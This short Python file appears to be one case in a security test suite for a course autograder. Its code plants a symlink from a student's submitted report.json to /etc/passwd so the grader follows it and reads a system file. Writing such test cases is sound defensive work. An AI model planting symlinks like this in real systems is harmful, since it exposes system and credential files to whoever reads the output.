"""A link to a file outside is left for the grader to follow."""

from attacks import ZERO

PAYS_ON = "one process"
GAIN = "trace"
LEAVES = "new submitted/eve/a1/report.json"
CELLS = [
    ZERO,
    """
import os
os.symlink('/etc/passwd', '<<course>>/submitted/eve/a1/report.json')
""",
]
